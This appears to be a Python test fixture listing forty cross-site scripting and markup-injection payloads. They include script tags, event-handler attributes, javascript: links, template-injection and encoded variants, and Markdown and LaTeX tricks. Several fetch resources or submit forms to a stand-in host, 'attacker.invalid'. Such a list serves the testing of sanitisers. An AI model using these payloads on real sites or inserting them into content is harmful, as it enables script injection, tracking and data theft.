"""Forty texts that do something where a text is taken for code, markup, a formula or an address."""

from __future__ import annotations

ELSEWHERE = "http://attacker.invalid"
DO = "window.pwned=1"

PAYLOADS = (
    f"<img src=x onerror={DO}>",
    f'my href <img src=x onerror="{DO}">',
    f"<script>{DO}</script>",
    f"</script><script>{DO}</script>",
    f"<!--<script>{DO}//-->",
    f"<svg onload={DO}>",
    f"<svg><script>{DO}</script></svg>",
    f"<iframe srcdoc='<script>parent.{DO}</script>'>",
    f"<iframe src='javascript:parent.{DO}'>",
    f"<a href='javascript:{DO}'>href</a>",
    f"[click](javascript:{DO})",
    f"![track]({ELSEWHERE}/track.png?u=1)",
    f"![x](x){{onerror={DO}}}",
    f"<img src='{ELSEWHERE}/pixel.gif'>",
    f"<link rel=stylesheet href='{ELSEWHERE}/style.css'>",
    f"<style>@import url({ELSEWHERE}/import.css);</style>",
    f"<div style='background:url({ELSEWHERE}/ground.png)'>x</div>",
    f"<base href='{ELSEWHERE}/'>",
    f"<meta http-equiv=refresh content='0;url={ELSEWHERE}/'>",
    f"<object data='{ELSEWHERE}/object'></object>",
    f"<embed src='{ELSEWHERE}/embed'>",
    f"<video><source onerror={DO}></video>",
    f"<audio src=x onerror={DO}></audio>",
    f"<details open ontoggle={DO}>x</details>",
    f"<input autofocus onfocus={DO}>",
    f"<marquee onstart={DO}>x</marquee>",
    f"<body onload={DO}>",
    f'"><img src=x onerror={DO}>',
    f"' onmouseover='{DO}' x='",
    f"`${{{DO}}}`",
    f"{{{{constructor.constructor('{DO}')()}}}}",
    rf"$\href{{javascript:{DO}}}{{x}}$",
    rf"$$\includegraphics{{{ELSEWHERE}/formula.png}}$$",
    f"<math><mtext><img src=x onerror={DO}></mtext></math>",
    f"&lt;img src=x onerror={DO}&gt;",
    f"\\u003cimg src=x onerror={DO}\\u003e",
    f"%3Cimg%20src=x%20onerror={DO}%3E",
    f"<form action='{ELSEWHERE}/form'><button autofocus>x</button></form>",
    f":red[x] :material/home: <b onclick={DO}>href</b> # big",
    f"javascript:{DO}//href\"'><img src=x onerror={DO}>",
)
assert len(set(PAYLOADS)) == 40
